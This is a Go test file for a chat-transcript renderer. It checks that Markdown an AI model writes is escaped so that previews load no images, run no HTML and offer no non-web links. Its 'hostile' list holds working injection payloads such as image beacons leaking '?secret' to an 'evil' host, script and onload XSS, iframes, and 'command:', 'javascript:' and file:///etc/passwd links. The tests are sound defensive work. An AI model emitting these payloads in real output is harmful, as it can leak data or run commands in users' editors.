package transcript

import (
	"bytes"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	markdown "github.com/yuin/goldmark/parser"
	"github.com/yuin/goldmark/text"
)

// hostile are texts of a model that would show an image, run HTML or offer a link of another kind than the web's, one a
// line; ␤ is a line end.
const hostile = `![x](http://evil/?secret)
![](//evil/x.png)
![x](<http://evil/a b>)
![x](http://evil "title")
![x](data:image/png;base64,AAAA)
![x](C:\a.png)
![x][r]␤␤[r]: http://evil/x
![r][]␤␤[r]: http://evil/x
![r]␤␤[r]: http://evil/x
![x␤y](http://evil)
![x](␤http://evil␤)
!![x](http://evil)
\\![x](http://evil)
\\\\![x](http://evil)
[![x](http://evil)](http://good)
![![x](http://evil)](http://evil)
# ![x](http://evil)
- ![x](http://evil)
1. a␤   ![x](http://evil)
> ![x](http://evil)
> - ![x](http://evil)
a␤    ![x](http://evil)
- a␤␤     ![x](http://evil)
` + "`a` ![x](http://evil) `b`" + `
` + "`a ![x](http://evil)" + `
` + "``a` ![x](http://evil)" + `
` + "`a␤b` ![x](http://evil) `c`" + `
` + "\\`a ![x](http://evil) `b`" + `
` + "\\`` a` ![x](http://evil) ``b``" + `
` + "[a](/b`c) ![x](http://evil) `d`" + `
` + "[a](/b \"`\") ![x](http://evil) `d`" + `
` + "<http://a/`> ![x](http://evil) `d`" + `
` + "<1`@b.c> ![x](http://evil) `d`" + `
` + "<a href=\"`\"> ![x](http://evil) `d`" + `
` + "[a][b`c] ![x](http://evil) `d`␤␤[b`c]: /x" + `
` + "[a][b␤`c] ![x](http://evil) `d`␤␤[b␤`c]: /x" + `
` + "[a][`b\\[c] ![x](http://evil) `d`␤␤[`b\\[c]: /x" + `
` + "| a | b |␤|---|---|␤| `a | ![x](http://evil) ` |" + `
` + "~~~␤a␤~~~␤![x](http://evil)" + `
` + "- ```␤  a␤![x](http://evil)" + `
` + "> ```␤![x](http://evil)" + `
` + "``` a`␤![x](http://evil)" + `
` + "```␤a␤    ```␤```␤![x](http://evil)" + `
<img src=http://evil>
a <img src="http://evil"> b
<IMG SRC=http://evil/>
<img␤src=http://evil>
\\<img src=http://evil>
<<img src=http://evil>>
](<img src=http://evil>)
<svg onload=alert(1)>
<script>alert(1)</script>
<style>@import 'http://evil'</style>
<iframe src=http://evil></iframe>
<details open ontoggle=alert(1)>
<a href="command:x">y</a>
<link rel=stylesheet href=http://evil>
<meta http-equiv=refresh content="0;url=http://evil">
<table background=http://evil><tr><td>a</table>
<!-- a --> <b>
<!--><img src=http://evil>-->
<?php evil ?>
<!DOCTYPE html>
<![CDATA[<img src=http://evil>]]>
</p><img src=http://evil>
- <div>␤  <img src=http://evil>
<x-y>
a␤<pre>␤<img src=http://evil>
<command:x>
<vscode://file/etc/passwd>
<javascript:alert(1)>
<file:///etc/passwd>
<a+b.c-d:x>
[x](command:workbench.action.terminal.new)
[x](COMMAND:x)
[x]( command:x )
[x](<command:x>)
[x](command:x "t")
[x](␤command:x)
[x](command&colon;x)
[x](&#99;ommand:x)
[x](command\:x)
[x](vscode:extension/evil)
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](vbscript:x)
[x](data:text/html,a)
[x](file:///etc/passwd)
[x](//evil/share)
[x](\\evil\share)
[x](C:/a)
[x](a(b:c))
[[x]](command:x)
[x [y](command:z)](command:x)
**[x](command:y)**
[` + "`x`" + `](command:y)
[x][r]␤␤[r]: command:y
[x][r]␤␤[r]: <command:y>
[x][r]␤␤[r]:␤command:y
[x][r]␤␤[r]:␤  command:y "t"
[x][r s]␤␤[r␤s]: command:y
[r]␤␤[a]: /b␤[r]: command:y
[r]␤␤> [r]: command:y
[r]␤␤- [r]: command:y
[r]␤␤a␤- [r]: command:y
[r]␤␤1) [r]: command&colon;y
` + "[`r]␤␤[`r]: command:y '`'" + `
[r\]]␤␤[r\]]: command:y`

var markdowns = map[string]goldmark.Markdown{
	"CommonMark": goldmark.New(),
	"GitHub":     goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough, extension.TaskList)),
	"more":       goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithParserOptions(markdown.WithAttribute())),
}

// risks lists what of a document a preview would load, run or offer, but for the images and the comments that are
// Assent's own.
func risks(markdown goldmark.Markdown, document string) []string {
	var found []string
	source := []byte(document)
	root := markdown.Parser().Parse(text.NewReader(source))
	_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Image:
			found = append(found, "image "+string(n.Destination))
		case *ast.RawHTML:
			found = append(found, "HTML "+string(n.Segments.Value(source)))
		case *ast.HTMLBlock:
			if block := string(n.Lines().Value(source)); strings.TrimSpace(block) != closedMark {
				found = append(found, "HTML "+block)
			}
		case *ast.Link:
			found = append(found, foreign(string(n.Destination))...)
		case *ast.AutoLink:
			if n.AutoLinkType != ast.AutoLinkEmail {
				found = append(found, foreign(string(n.URL(source)))...)
			}
		}
		return ast.WalkContinue, nil
	})
	return found
}

var plainTargets = regexp.MustCompile(`(?i)^(?:(?:https?|mailto):|/?[^/:\\&]*(?:[/?#]|$))`)

// foreign is what a link offers, unless it is an address of the web or of mail or a path.
func foreign(target string) []string {
	if plainTargets.MatchString(target) && !strings.HasPrefix(target, "//") {
		return nil
	}
	return []string{"link " + target}
}

// said is a document in which a model says something.
func said(markdown string) string {
	return Render(Chat{Turns: []Turn{{Role: Assistant, Blocks: []Block{Text{Markdown: markdown}}}}})
}

// S23: what a model says loads nothing in a preview, runs nothing there and offers no link but to the web and to paths.
func TestWhatAModelSaysIsHarmless(t *testing.T) {
	t.Parallel()
	rows := strings.Split(hostile, "\n")
	if len(rows) < 60 {
		t.Fatal("too few forms:", len(rows))
	}
	for _, row := range rows {
		row = strings.ReplaceAll(row, "␤", "\n")
		harmful := false
		for _, markdown := range markdowns {
			harmful = harmful || len(risks(markdown, row)) > 0
		}
		if !harmful {
			t.Errorf("%q is no danger to begin with", row)
		}
		document := said(row)
		for name, markdown := range markdowns {
			if found := risks(markdown, document); len(found) > 0 {
				t.Errorf("%s: %q is written as %q, which has %q", name, row, document, found)
			}
			var page bytes.Buffer
			if err := markdown.Convert([]byte(document), &page); err != nil {
				t.Fatal(err)
			}
			for _, bad := range []string{"<img", "raw HTML omitted", `href="command`, `href="vscode`, `href="javascript`} {
				if strings.Contains(strings.ToLower(page.String()), strings.ToLower(bad)) {
					t.Errorf("%s: %q is shown as %s", name, row, page.String())
				}
			}
		}
		checkSaid(t, row)
	}
}

// checkSaid checks that a text reads back as it was said, however it was cut.
func checkSaid(t *testing.T, markdown string) {
	t.Helper()
	document := said(markdown)
	got := Parse(document).Turns[0].Blocks
	if want := NormalText(markdown); want != "" && (len(got) != 1 || got[0].(Text).Markdown != want) {
		t.Errorf("%q is written as %q and read as %q", markdown, document, got)
	}
	for size := 1; size <= 3; size++ {
		w := NewWriter("")
		cut := w.AssistantHeading()
		for _, delta := range chunks(markdown, func() int { return size }) {
			cut += w.Text(delta)
		}
		if cut += w.End(); cut != document {
			t.Errorf("%q, cut into pieces of %d bytes, is written as %q, not as %q", markdown, size, cut, document)
		}
	}
}

// What may stay as it was said: code, and links to the web and to paths.
func TestHarmlessProseStays(t *testing.T) {
	t.Parallel()
	for _, prose := range []string{
		"`![x](http://a)` and `Vec<T>` and ``a ` <b>``",
		"```html\n<img src=a>\n![x](y)\n```\nafter",
		"1. Do:\n   ```html\n   <img src=a>\n   ```\n2. then",
		"text:\n\n    <b>![x](y)</b>\n\nmore",
		"[a](b.go) [b](../c/d.md#e) [c](https://a.b/c?d=e&f=g:h) [d](http://a/b_(c)) [e](mailto:a@b.c \"Mail\")",
		"<https://a.b/c?d=e> and <a@b.c>",
		"a < b, a <= b, a <- b, x << 3, 1 <2",
		"arr[i]: a::b is no definition",
		"[ref] and [text][ref]\n\n[ref]: https://a.b\n[two]: docs/a.md \"t\"",
		"wow! [a](b)",
		"- [ ] todo: `a[0]` `<T>`",
	} {
		if got, want := said(prose), "## Assistant\n\n"+prose+"\n"; got != want {
			t.Errorf("%q is written as %q", prose, got)
		}
		checkSaid(t, prose)
	}
}

// Only what the model says is written with backslashes, and what Assent adds below it still works.
func TestYourImagesStay(t *testing.T) {
	t.Parallel()
	file := "## You\n\n![chart](a.png) <b>\n\n## Assistant\n\n```result c1 ok\na\n```\n\n![result c1](x.images/a.png)\n\n\\![b](c.png)\n\n## You\n\n"
	chat := Parse(file)
	if got := Render(*chat); got != file {
		t.Errorf("%q is written as %q", file, got)
	}
	if links := ImageLinks(chat.Turns[0].Blocks[0].(Text).Markdown); len(links) != 1 || links[0].Target != "a.png" {
		t.Error(links)
	}
	if text := chat.Turns[1].Blocks[2].(Text).Markdown; text != "![b](c.png)" {
		t.Errorf("the model reads %q", text)
	}
}

// A chat from before, or one in which a person wrote, reads as it is where no backslash of Assent could be.
func TestOlderProseReadsAsItStands(t *testing.T) {
	t.Parallel()
	for _, prose := range []string{"![x](http://a)", "<b>x</b>", "[x](command:y)", `\\![x](a)`, `\# a \* b`, `a \< b`, "<div>\n![x](y)\n</div>"} {
		if got := Parse("## Assistant\n\n" + prose + "\n").Turns[0].Blocks[0].(Text).Markdown; got != prose {
			t.Errorf("%q reads as %q", prose, got)
		}
	}
}

// sayings are the parts of which texts that may be harmful are made.
var sayings = strings.Split("![|](|)|](/a)|](http://a)|](/a \"b\")|](command:a)|](<|[a|[a]|[|]|][|][a]|]:|[a]: /b|[a]: command:b|<|>|<img|<b>|<img src=x>|</a>|<!--|-->|<?|?>|<!A|"+
	"<http://a>|<http://a|<a:b>|<a@b.c>|<1`@b.c>|`|`|``|```|\\|\\\\|!|command:|:|&colon;|\"|'|(|/|x|1| |  |    |\t|\n|\n|\n|\n\n|- |> |1. |# |~~~|===|---|\\`|\\[|x y|\\]|\\(|\r|\v", "|")

func checkHarmless(t *testing.T, a, b uint64) {
	t.Helper()
	r := rand.New(rand.NewPCG(a, b))
	var made strings.Builder
	for range 1 + r.IntN(18) {
		made.WriteString(sayings[r.IntN(len(sayings))])
	}
	prose := made.String()
	checkSaid(t, prose)
	document := said(prose)
	if departs.MatchString(document) || strings.Contains(document, `\\\`+"\n") {
		return // goldmark takes the last of three backslashes for one before the first character of the next line
	}
	for name, markdown := range markdowns {
		if found := risks(markdown, document); len(found) > 0 {
			t.Errorf("seed %d, %d, %s: %q is written as %q, which has %q", a, b, name, prose, document, found)
		}
	}
}

func TestWhateverAModelSaysIsHarmless(t *testing.T) {
	t.Parallel()
	for seed := range fewer(uint64(8_000)) {
		if checkHarmless(t, seed, 7); t.Failed() {
			return
		}
	}
}

func FuzzHarmless(f *testing.F) {
	f.Add(uint64(1), uint64(2))
	f.Fuzz(func(t *testing.T, a, b uint64) { checkHarmless(t, a, b) })
}
